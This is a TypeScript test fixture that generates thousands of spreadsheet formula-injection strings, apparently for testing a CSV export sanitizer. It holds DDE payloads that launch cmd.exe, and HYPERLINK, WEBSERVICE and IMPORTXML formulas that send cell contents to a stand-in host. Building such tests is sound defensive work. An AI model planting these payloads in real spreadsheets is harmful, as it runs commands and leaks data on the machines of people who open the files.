// Lists more than 7,000 texts that a spreadsheet might run, also after splitting or trimming them.
import { isLong } from '../../is-long.ts'

const prefixes = [
  '',
  "'",
  "''",
  '"',
  '""',
  '\'"',
  ' ',
  '   ',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\ufeff\ufeff',
  '\u200b',
  '\u202e',
  '\u2028',
  '\0',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\n\n',
  ',',
  ';',
  '|',
  '",',
  '";',
  '"\t',
  '"\r\n',
  'Ada;',
  'Ada\t',
  'Ada|',
  'Ada\n',
  'Ada,'
]
const triggers = ['=', '+', '-', '@', '\t=', '\r=', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe66', '\ufe62', '\ufe63', '\ufe6b']
const bodies = [
  '1+1',
  'A1',
  "cmd|' /C calc'!A0",
  `2+5+cmd|' /C calc'!A0`,
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
  'HYPERLINK("https://beispiel.example/?k="&A1;"Click")',
  'HYPERLINK("https://beispiel.example/?k="&A1,"Click")',
  'WEBSERVICE("https://beispiel.example/"&A1)',
  'IMPORTXML(CONCAT("https://beispiel.example/",A1:A9),"//a")',
  'SUM(1,1)',
  '"Ada"',
  '1;=1+1;',
  '1\t=1+1\t',
  '1\n=1+1\n',
  '1","=1+1","'
]

const made = [...new Set(prefixes.flatMap(prefix => triggers.flatMap(trigger => bodies.map(body => prefix + trigger + body))))]

/** Before a commit every seventh, which still has each sign after each beginning. */
export const formulas: readonly string[] = [
  ...made.filter((_, n) => isLong || n % 7 === 0),
  ...triggers,
  'sep=;',
  'SEP=,',
  'ID',
  '1e5',
  '=',
  "'"
]
